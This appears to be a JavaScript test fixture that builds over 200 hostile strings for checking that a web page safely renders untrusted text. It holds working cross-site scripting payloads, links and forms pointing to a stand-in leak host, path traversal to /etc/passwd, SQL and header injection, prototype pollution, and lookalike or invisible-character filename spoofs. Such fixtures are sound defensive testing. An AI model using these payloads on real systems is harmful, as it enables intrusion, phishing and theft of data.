// Strings that would harm a page that did not treat them as text. One that runs sets `globalThis.hostile`.

const RUN = "globalThis.hostile=1";
const ELSEWHERE = "http://192.0.2.1/leak";

const EVENTS = "onerror onload onclick onfocus onmouseover ontoggle onpointerenter onanimationstart".split(
  " ",
);
const TAGS = "img svg body video audio iframe input details object marquee".split(" ");

const markup = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<ScRiPt src="${ELSEWHERE}"></ScRiPt>`,
  `"><script>${RUN}</script>`,
  `'><img src=x onerror=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<math><mtext><style><img src=x onerror=${RUN}></style></mtext></math>`,
  `<iframe srcdoc="<script>parent.hostile=1</script>"></iframe>`,
  `<link rel="stylesheet" href="${ELSEWHERE}">`,
  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}">`,
  `<base href="${ELSEWHERE}">`,
  `<form action="${ELSEWHERE}"><button>Sign in</button></form>`,
  `<style>@import url(${ELSEWHERE})</style>`,
  `<a href="javascript:${RUN}">open</a>`,
  "<!-- <b>not closed",
  "<![CDATA[<b>text</b>]]>",
  "</div></main></body></html>",
  "<plaintext>",
  "<textarea>",
  "<template shadowrootmode=open><slot></slot></template>",
  "&lt;b&gt;entities&lt;/b&gt; &#x202E; &nbsp;",
  "{{constructor.constructor('globalThis.hostile=1')()}}",
  // Looks like a template literal, but is plain text.
  ["$", `{${RUN}}`].join(""),
  "__proto__",
  "constructor",
  '{"__proto__":{"polluted":true},"dangerouslySetInnerHTML":{"__html":"<b>x</b>"}}',
  ...TAGS.flatMap((tag) => EVENTS.map((event) => `<${tag} src=x ${event}="${RUN}" autofocus open>`)),
];

const SCHEMES = [
  ...["javascript:", "JaVaScRiPt:", "java\tscript:", "\u0001javascript:", "data:text/html,", "vbscript:"],
  ...["blob:", "file:///etc/passwd?", "view-source:"],
];
const links = [
  ...SCHEMES.map((scheme) => `${scheme}${RUN}`),
  ...[ELSEWHERE, "//192.0.2.1/leak", `![image](${ELSEWHERE})`, `[link](javascript:${RUN})`, `<${ELSEWHERE}>`],
  `[x]: ${ELSEWHERE}\n![x]`,
];

const invisible = [
  ..."\u202e\u202d\u202a\u202b\u2066\u2067\u2068\u2069\u200e\u200f\u061c",
  ..."\u200b\u200c\u200d\u2060\u2061\u2064\ufeff\u00ad\u034f\u180e\u115f\u3164\uffa0",
  ...["\u2028", "\u2029", "\u0085", "\u0007", "\u0008", "\u001b[31m", "\u007f", "\u009f", "\ufe0f", "\ufff9"],
  ...["\u{e0041}\u{e0042}", "\u{e007f}"],
].map((character) => `invoice${character}fdp.exe`);

const alike = [
  ...[
    "аdmin",
    "Αdmin",
    "ａｄｍｉｎ",
    "𝐚𝐝𝐦𝐢𝐧",
    "аpple.com",
    "раypal",
    "ⓐⓓⓜⓘⓝ",
    "admin\u0301\u0301",
    "ﬁle",
    "İstanbul",
  ],
];
const stacked = Array.from({ length: 8 }, (_, i) => `H${"\u0301\u0316\u0489".repeat(20 * (i + 1))}ello`);
const scripts = [
  "مرحبا بالعالم",
  "שלום עולם",
  "नमस्ते दुनिया",
  "สวัสดีชาวโลก",
  "👩‍👩‍👧‍👦 ❤️ 🏳️‍🌈 👍🏽",
  "𓀀𓁐",
  "漢字かな交じり文",
  "ﷺ".repeat(40),
];

const bombs = [
  "x".repeat(100_000),
  "W ".repeat(20_000),
  "\n".repeat(2_000),
  "\t".repeat(2_000),
  "﷽".repeat(500),
  "\u202e".repeat(500),
  `${"[".repeat(3_000)}${"]".repeat(3_000)}`,
  `${"> ".repeat(2_000)}quote`,
  `${"- ".repeat(2_000)}list`,
  "```mermaid\ngraph TD; A-->B;\n```",
  `\`\`\`mermaid\nclick A "javascript:${RUN}"\n\`\`\``,
  "$$\\def\\x{\\x\\x}\\x$$",
  "\\(\\rule{1000em}{1000em}\\)",
  "\\href{javascript:globalThis.hostile=1}{x}",
  '=HYPERLINK("http://192.0.2.1/leak")',
  "%00%0a%0d..%2f..%2fetc%2fpasswd",
  "../../../../etc/passwd",
  "C:\\Windows\\System32\\calc.exe",
  "'; DROP TABLE messages; --",
  '" OR 1=1 --',
  "null",
  "undefined",
  "NaN",
  "-0",
  "1e309",
  "#/keys?secret=1",
  "conv_00000000000000000000",
  "\r\nSet-Cookie: a=b",
  "a\rb",
  "﻿BOM",
];

/** At least 200 strings. */
export const HOSTILE: readonly string[] = [
  ...markup,
  ...links,
  ...invisible,
  ...alike,
  ...stacked,
  ...scripts,
  ...bombs,
];

/** Those that may be ids, names or tags: without control characters, and of at most 60. */
export const HOSTILE_NAMES: readonly string[] = HOSTILE.map((text) =>
  [...text.replace(/\p{Cc}|\p{Cs}/gu, "")].slice(0, 60).join("").trim(),
).filter(Boolean);
